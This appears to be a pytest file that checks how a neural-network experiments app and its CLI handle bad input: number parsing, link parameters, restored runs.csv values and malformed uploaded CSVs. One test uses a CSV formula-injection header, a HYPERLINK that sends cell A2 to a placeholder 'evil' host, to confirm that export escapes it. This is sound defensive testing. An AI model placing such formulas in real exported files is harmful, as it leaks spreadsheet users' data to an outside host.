"""Issue 21's smaller holes, one by one, without Streamlit: a saved file, a link, a typed value or a call that
used to be accepted as something else, raise a library's error, or be dropped without a word. Each test
reproduces the hole; docs/app.md#bad-input (and the sections it links) says what a visitor sees."""
import io

import numpy as np
import pandas as pd
import pytest

import nn
from experiments import figures
from experiments.cli import build_parser, main, specs_from_args
from experiments.own_data import csv_columns, dataset_from_csv
from experiments.saved import results_from_csv
from experiments.runner import run_grid
from experiments.fields import field_named
from experiments.settings import AppSettings, read_entries
from experiments.specs import expand_grid
from experiments.tables import read_csv


@pytest.fixture(scope="module")
def saved():
    """A small comparison as its runs.csv and history.csv would be saved: (runs, history) DataFrames read back
    from the CSV text, to be spoiled one cell at a time."""
    results = run_grid(expand_grid(datasets=["xor"], architectures=["[2, 8, 2]", "[2, 4, 4, 2]"], lrs=[0.3, 0.03],
                                   epochs=3))
    return (pd.read_csv(io.StringIO(results.runs_csv()), keep_default_na=False),
            pd.read_csv(io.StringIO(results.history_csv())))


def opened(runs, history=None):
    """results_from_csv of these tables, as an upload hands them over (bytes)."""
    return results_from_csv(runs.to_csv(index=False).encode(),
                            None if history is None else history.to_csv(index=False).encode())


# ----- calls with the wrong kind of argument -----
@pytest.mark.parametrize("argument", ["progress", "should_stop"])
def test_run_grid_says_progress_and_should_stop_must_be_callable(argument):
    with pytest.raises(ValueError, match=rf"'{argument}' must be a function \(or None\); got 5"):
        run_grid(expand_grid(datasets=["xor4"], architectures=["[2, 2]"], epochs=1), **{argument: 5})


def test_a_network_given_the_wrong_number_of_features_says_how_many_it_expects():
    with pytest.raises(ValueError, match=r"^'X' has 5 features but the network's input layer expects 2\.$"):
        nn.Network([2, 8, 2]).forward(np.zeros((3, 5)))


# ----- one number parser for the app and the command line -----
@pytest.mark.parametrize("flag, typed, attribute, value", [
    ("--epochs", "1e3", "epochs", 1000), ("--epochs", "1000.0", "epochs", 1000),
    ("--batch-size", "1.6e1", "batch_size", 16), ("--seeds", "2e0", "seed", 2),
])
def test_the_command_line_reads_numbers_as_the_app_does(flag, typed, attribute, value):
    args = build_parser().parse_args(["run", "--dataset", "xor4", "--arch", "[2,2]", flag, typed])
    assert getattr(specs_from_args(args)[0], attribute) == value


@pytest.mark.parametrize("typed, message", [
    ("2.5", "--epochs must be a whole number; got '2.5'"), ("1e30", "--epochs is far too large; got '1e30'"),
])
def test_the_command_line_refuses_what_the_app_refuses(typed, message, tmp_path):
    err = io.StringIO()
    assert main(["run", "--epochs", typed, "--out", str(tmp_path)], io.StringIO(), err) == 2
    assert message in err.getvalue()


def test_one_pattern_reads_numbers_everywhere():
    """The app's links, typed boxes and runs.csv restore read through the settings table (fields.py)."""
    from experiments import cli, fields, limits, numbers
    assert limits.PLAIN_NUMBER is numbers.PLAIN_NUMBER and fields.read_number is numbers.read_number
    assert cli.read_whole is numbers.read_whole and fields.read_whole is numbers.read_whole


# ----- a decimal comma typed as a learning rate -----
@pytest.mark.parametrize("typed, good, error", [
    ("0,5", [], "learning rate '0,5' has a comma between digits: write decimals with a point (0.5) and separate "
                "rates with ', ' or ';'."),
    ("0.2, 0.003", [0.2, 0.003], None),
    ("0.2,0.003 1e-4;0.7", [0.2, 0.003, 1e-4, 0.7], None),
    ("0.1, 1,5", [0.1], "learning rate '1,5' has a comma between digits: write decimals with a point (1.5) and "
                        "separate rates with ', ' or ';'."),
])
def test_a_decimal_comma_in_a_learning_rate_is_recognised(typed, good, error):
    assert read_entries(field_named("lr"), typed) == (good, [error] if error else [])


def test_a_decimal_comma_in_a_link_gets_the_same_message():
    _, problems = AppSettings.from_query({"lr": "0,5"})
    assert problems == ["link parameter lr: learning rate '0,5' has a comma between digits: write decimals with a "
                        "point (0.5) and separate rates with ', ' or ';'."]


# ----- links: one message per problem, options a dataset does not have, fields dropped -----
def test_a_thousand_copies_of_one_bad_value_give_one_message_with_a_count():
    settings, problems = AppSettings.from_query({"dataset": ["bogus"] * 1000 + ["xor"]})
    assert settings.datasets == ("xor",)
    assert problems == ["link parameter dataset: unknown dataset 'bogus'; choose from circles, digits, edge, "
                        "gaussians, lines, moons, spiral, xor, xor4. (1000 times)"]


@pytest.mark.parametrize("query, said", [
    ({"dataset": "xor4", "xor4.n": "50"}, "link parameter xor4.n: does not apply to xor4 (it has a fixed size); "
                                          "left out."),
    ({"dataset": "digits", "digits.noise": "1"}, "link parameter digits.noise: does not apply to digits (it has no "
                                                 "noise option); left out."),
    ({"dataset": "xor", "xor.size": "50"}, "link parameter xor.size: xor has no option 'size'; its options are n, "
                                           "noise, test; left out."),
    ({"dataset": "xor", "circles.n": "50"}, "link parameter circles.n: circles is not among the link's datasets; "
                                            "left out."),
])
def test_an_option_the_dataset_does_not_have_is_said(query, said):
    _, problems = AppSettings.from_query(query)
    assert problems == [said]


def test_a_link_streamlit_dropped_for_too_many_fields_is_said():
    from experiments.settings import dropped_link
    raw = "&".join(["dataset=xor"] * 1001)
    assert dropped_link(raw, {}) == ["This link has 1001 fields, more than the 1000 a link may carry, so none of "
                                      "its settings were read; the defaults are shown."]
    assert dropped_link("dataset=xor", {"dataset": ["xor"]}) == []
    assert dropped_link("", {}) == []


# ----- saved settings: what this server's widgets cannot show is clamped and said -----
@pytest.mark.parametrize("column, value, attribute, shown, said", [
    ("l2", 100, "l2", 10.0, "runs.csv column l2: 100 is outside what this app allows; using 10."),
    ("epochs", 5000, "epochs", 2000, "runs.csv column epochs: 5000 is outside what this app allows; using 2000."),
    ("batch_size", 5000, "batch_size", 128, "runs.csv column batch_size: 5000 is outside what this app allows; "
                                            "using 128."),
    ("n_samples", 20000, "dataset_options", {"xor": {"n_samples": 5000, "noise": 0.0, "test_fraction": 0.25}},
     "runs.csv column n_samples (xor): 20000 is outside what this app allows; using 5000."),
])
def test_saved_values_beyond_this_app_are_clamped_in_the_sidebar_and_said(saved, column, value, attribute, shown,
                                                                          said):
    """A runs.csv from the command line may hold what the demo's widgets cannot show: the sidebar gets the
    nearest allowed value (as from a share link) and a message says so; the results keep what was trained."""
    runs, _ = saved
    runs = runs.astype({column: object})
    runs[column] = [value, *runs[column][1:]] if column == "lr" else value
    results = opened(runs)
    settings, problems = AppSettings.from_runs(results.runs, max_epochs=2000, max_samples=5000)
    assert getattr(settings, attribute) == shown
    assert said in problems
    assert results.runs[column].iloc[0] == value


def test_a_learning_rate_any_run_may_have_comes_back_from_runs_csv_and_one_below_is_refused_in_a_link(saved):
    """One lr range for the app, the library and the command line (fields.py: at least 1e-12, no upper
    bound, as a rate that blows up is a lesson, not an error): a runs.csv with lr 5000 from the command line
    restores it in the sidebar without a word; a link with a rate below 1e-12 leaves it out and says so."""
    runs, _ = saved
    runs = runs.astype({"lr": object})
    runs["lr"] = [5000, *runs["lr"][1:]]
    settings, problems = AppSettings.from_runs(opened(runs).runs, max_epochs=2000, max_samples=5000)
    assert settings.lrs == (5000.0, 0.03, 0.3) and problems == []
    settings, problems = AppSettings.from_query({"lr": ["1e-13", "0.3"]})
    assert settings.lrs == (0.3,)
    assert problems == ["link parameter lr: learning rate must be at least 1e-12; got '1e-13'."]


def test_saved_settings_in_range_come_back_without_a_word(saved):
    runs, _ = saved
    settings, problems = AppSettings.from_runs(opened(runs).runs, max_epochs=2000, max_samples=5000)
    assert problems == [] and settings.lrs == (0.3, 0.03) and settings.epochs == 3


# ----- runs.csv export: headers are escaped like cells -----
def test_a_formula_in_an_extra_column_header_is_escaped_on_export_and_read_back_as_written(saved):
    runs, _ = saved
    formula = '=HYPERLINK("http://evil/?leak="&A2,"click")'
    results = opened(runs.assign(**{formula: "x"}))
    header = results.runs_csv().splitlines()[0]
    assert "'=HYPERLINK" in header and ',"=HYPERLINK' not in header
    assert formula in opened(pd.read_csv(io.StringIO(results.runs_csv()))).runs.columns  # the apostrophe goes again


# ----- a layers cell that is not a list -----
@pytest.mark.parametrize("column", ["layers", "architecture"])
def test_a_layers_cell_that_is_not_a_list_is_refused_with_its_row_and_column(saved, column):
    runs, _ = saved
    runs = runs.astype({column: object})
    runs.loc[1, column] = "<b>x</b>"
    with pytest.raises(ValueError, match=rf"column '{column}' must hold layer widths written like \[2, 8, 2\]; "
                                         r"row 3 has '<b>x</b>'"):
        opened(runs)


def test_layers_written_with_semicolons_are_read_as_the_list_they_are(saved):
    """A spreadsheet saved with semicolons wrote [2; 8; 2]: Compare and Hyperparameters draw it."""
    runs, history = saved
    runs = runs.assign(layers=runs["layers"].str.replace(",", ";"),
                       architecture=runs["architecture"].str.replace(",", ";"))
    results = opened(runs, history)
    assert list(dict.fromkeys(results.runs["layers"])) == ["[2, 8, 2]", "[2, 4, 4, 2]"]
    figures.learning_curves_figure(results)
    figures.parallel_coordinates_figure(results)
    figures.design_map_figure(results)


# ----- saved values no run can have are refused -----
@pytest.mark.parametrize("column, value, message", [
    ("test_fraction", 5, r"column 'test_fraction' must lie in \[0.05, 0.9\] for xor; row 2 has 5"),
    ("n_samples", 2, r"column 'n_samples' must lie in \[8, 100000\] for xor; row 2 has 2"),
    ("n_samples", 1e9, r"column 'n_samples' must lie in \[8, 100000\] for xor; row 2 has 1e\+09"),
    ("noise", 1e9, r"column 'noise' must lie in \[0, 10\] for xor; row 2 has 1e\+09"),
    ("noise", -1, r"column 'noise' must lie in \[0, 10\] for xor; row 2 has -1"),
    ("lr", 1e-300, r"column 'lr' must lie in \[1e-12, inf\]; row 2 has 1e-300"),
    ("batch_size", "1e30", r"column 'batch_size' must lie in \[1, 100000\] \(or be 'full'\); row 2 has 1e\+30"),
    ("epochs", 1e30, r"column 'epochs' must lie in \[1, 100000\]; row 2 has 1e\+30"),
    ("epochs", 1e6, r"column 'epochs' must lie in \[1, 100000\]; row 2 has 1e\+06"),
])
def test_saved_values_no_run_can_have_are_refused_naming_the_column_and_the_range(saved, column, value, message):
    runs, _ = saved
    runs = runs.astype({column: object})
    runs.loc[0, column] = value
    with pytest.raises(ValueError, match=message) as error:
        opened(runs)
    assert "9.22337e+18" not in str(error.value)


# ----- NaN accuracy is not "best" -----
def test_no_configuration_is_starred_best_when_every_accuracy_is_missing(saved):
    runs, _ = saved
    table = figures.accuracy_table(opened(runs.assign(test_acc=np.nan)))
    assert not (table["best"] == "★").any()


# ----- own-data messages -----
def own_csv(label, n=40, trailer=""):
    rng = np.random.default_rng(0)
    rows = "\n".join(f"{a:.3f},{b:.3f},{label(i)}{trailer}" for i, (a, b) in enumerate(rng.normal(size=(n, 2))))
    return ("x,y,label\n" + rows + "\n").encode()


def test_labels_written_as_1_and_1_point_0_are_one_class_and_the_message_says_why():
    with pytest.raises(ValueError, match=r"the label column 'label' holds one class only: 1 and 1.0 are the same "
                                         r"number; a classifier needs at least 2 classes"):
        dataset_from_csv(own_csv(lambda i: "1.0" if i % 2 else "1"), "label")


def test_numeric_labels_are_ordered_as_numbers():
    data = dataset_from_csv(own_csv(lambda i: ["2", "10", "1.0"][i % 3]), "label")
    assert data.class_names == ("1", "2", "10")


def test_labels_na_and_eu_are_two_classes_not_empty_cells():
    data = dataset_from_csv(own_csv(lambda i: "NA" if i % 2 else "EU"), "label")
    assert data.class_names == ("EU", "NA")


@pytest.mark.parametrize("content, message", [
    (own_csv(lambda i: "ab"[i % 2], trailer=","), r"line 2 has 4 values but the header has 3 columns \(every row "
                                                  r"ends with an extra ','; remove it\)"),
    (own_csv(lambda i: ["Paris, France", "Rome, Italy"][i % 2]),
     r"line 2 has 4 values but the header has 3 columns \(a value holding ',' must be in double quotes, like "
     r"\"Paris, France\"\)"),
    (b"x,y,label\n1,2,a\n3,4\n", r"line 3 has 2 values but the header has 3 columns"),
    (b'x,y,label\n1,2,"a"\n3,4,"Rome", Italy\n', r"line 3 has 4 values but the header has 3 columns \(a value "
                                                r"holding ',' must be in double quotes"),  # read by the csv module
    (b"x;y;label\n1;2;a;\n3;4;b;\n", r"line 2 has 4 values but the header has 3 columns \(every row ends with an "
                                    r"extra ';'; remove it\)"),
])
def test_ragged_rows_are_reported_as_ragged_rows(content, message):
    with pytest.raises(ValueError, match=message):
        dataset_from_csv(content, "label")


def test_quoted_separators_and_blank_lines_are_not_ragged():
    frame = read_csv(b'x,y,label\n1,2,"Paris, France"\n\n3,4,"Rome, Italy"\n')
    assert frame["label"].tolist() == ["Paris, France", "Rome, Italy"]


# ----- a very wide upload is refused before pandas reads it -----
def test_a_file_of_100000_columns_is_refused_from_its_first_line(monkeypatch):
    """It used to be parsed on every rerun (1.5 s) and offer 100,000 label columns; now its header is counted."""
    header = ",".join(f"c{i}" for i in range(100_000))
    content = (header + "\n" + ",".join("0" for _ in range(100_000)) + "\n").encode()
    monkeypatch.setattr("experiments.tables.read_csv", lambda *args, **kwargs: pytest.fail("the file was parsed"))
    with pytest.raises(ValueError, match=r"the file has 100000 columns; at most 257 \(256 features and a label\)"):
        csv_columns(content)
